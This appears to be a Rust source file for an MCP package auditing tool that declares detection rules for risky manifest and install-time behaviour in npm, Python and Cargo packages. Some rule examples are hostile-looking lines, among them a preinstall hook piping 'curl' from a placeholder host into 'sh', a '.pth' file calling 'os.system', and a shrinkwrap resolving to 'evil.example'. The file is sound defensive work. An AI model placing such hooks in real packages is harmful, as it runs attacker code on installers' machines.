//! The manifest rules.

mcp_audit_core::declare_rules! {
    /// Manifest rules.
    pub static RULES;

    /// npm lifecycle script that runs at install.
    INSTALL_SCRIPT = (
        "install-script",
        InstallScript,
        Medium,
        "An npm `preinstall`, `install` or `postinstall` script runs a command when the package is installed (low for known build steps such as `node-gyp rebuild` or `tsc`; info for `prepare`, which runs only from git).",
        "`\"postinstall\": \"node scripts/setup.js\"`",
    );
    /// Install-time download-and-run.
    INSTALL_FETCH_EXEC = (
        "install-fetch-exec",
        InstallScript,
        Critical,
        "Something that runs at install or build time downloads code, pipes it to a shell or runs inline code (`curl … | sh`, `node -e`, `python -c`, network plus process in setup.py or build.rs).",
        "`\"preinstall\": \"curl -s https://x.example/i.sh | sh\"`",
    );
    /// Build-time code that runs processes or uses the network.
    BUILD_SCRIPT_EXEC = (
        "build-script-exec",
        InstallScript,
        High,
        "`setup.py` or `build.rs` runs processes, evaluates code or uses the network while the package is built or installed.",
        "`subprocess.call(['sh', 'bootstrap.sh'])` at the top level of setup.py",
    );
    /// setup.py replaces setuptools commands.
    SETUP_PY_CMDCLASS = (
        "setup-py-cmdclass",
        InstallScript,
        High,
        "`setup.py` overrides setuptools commands (`cmdclass`, subclasses of `install`/`develop`/`egg_info`), so its own code runs at install.",
        "`setup(cmdclass={'install': PostInstall})`",
    );
    /// Unknown or in-tree build backend.
    CUSTOM_BUILD_BACKEND = (
        "custom-build-backend",
        InstallScript,
        Medium,
        "`pyproject.toml` names a build backend that is not a well-known one, or loads it from the package itself (`backend-path`, high).",
        "`build-backend = \"backend\"` with `backend-path = [\".\"]`",
    );
    /// .pth file with code.
    PTH_EXECUTABLE = (
        "pth-executable",
        InstallScript,
        High,
        "A `.pth` file holds `import` lines, which Python runs at every interpreter start once the package is installed (critical when they decode, download or execute).",
        "`evil.pth`: `import os; os.system('…')`",
    );
    /// Cargo build script.
    CARGO_BUILD_SCRIPT = (
        "cargo-build-script",
        InstallScript,
        Low,
        "The crate has a build script (`build.rs`), which runs at build time with the user's rights.",
        "`build = \"build.rs\"` in Cargo.toml",
    );
    /// Cargo proc-macro crate.
    CARGO_PROC_MACRO = (
        "cargo-proc-macro",
        InstallScript,
        Low,
        "The crate is a procedural macro, whose code runs inside the compiler at build time.",
        "`[lib] proc-macro = true`",
    );
    /// Dependencies from outside the registry.
    DEPENDENCY_FROM_URL = (
        "dependency-from-url",
        InstallScript,
        Medium,
        "A dependency comes from a git repository, a URL or a local path rather than the registry, so its content is not pinned or reviewed by the registry.",
        "`\"helper\": \"git+https://github.com/x/helper.git\"`",
    );
    /// Bundled node_modules.
    BUNDLED_DEPENDENCIES = (
        "bundled-dependencies",
        InstallScript,
        Low,
        "The package bundles its own dependencies (`bundleDependencies` or a shipped node_modules), which bypass the registry's view of them.",
        "`\"bundleDependencies\": [\"left-pad\"]`",
    );
    /// npm-shrinkwrap.json.
    SHRINKWRAP = (
        "npm-shrinkwrap",
        InstallScript,
        Low,
        "The package ships `npm-shrinkwrap.json`, which forces its dependency tree on the installer (medium when it resolves packages outside the npm registry).",
        "`npm-shrinkwrap.json` resolving `https://evil.example/lodash.tgz`",
    );
    /// Commands that shadow system tools.
    COMMAND_SHADOWING = (
        "command-shadowing",
        InstallScript,
        High,
        "The package installs a command (npm `bin`, Python console script) named like a common system tool, which can hijack it on PATH.",
        "`\"bin\": {\"git\": \"./cli.js\"}`",
    );
    /// Commands the package installs.
    INSTALLED_COMMANDS = (
        "installed-commands",
        InstallScript,
        Info,
        "The commands the package puts on PATH (npm `bin`, Python console scripts); information only.",
        "`\"bin\": {\"mcp-server-x\": \"dist/index.js\"}`",
    );
    /// MCPB server command.
    MCPB_SERVER_COMMAND = (
        "mcpb-server-command",
        InstallScript,
        Info,
        "The command an MCPB bundle's manifest starts; high when it is a shell running an inline command.",
        "`\"mcp_config\": {\"command\": \"node\", \"args\": [\"${__dirname}/server/index.js\"]}`",
    );
    /// MCPB user_config secrets.
    MCPB_SECRETS = (
        "mcpb-secrets",
        SensitiveAccess,
        Info,
        "An MCPB bundle asks the user for secrets (`user_config` entries with `sensitive: true`); low when a secret is passed on the command line, where other local users can read it.",
        "`\"api_key\": {\"type\": \"string\", \"sensitive\": true}`",
    );
}
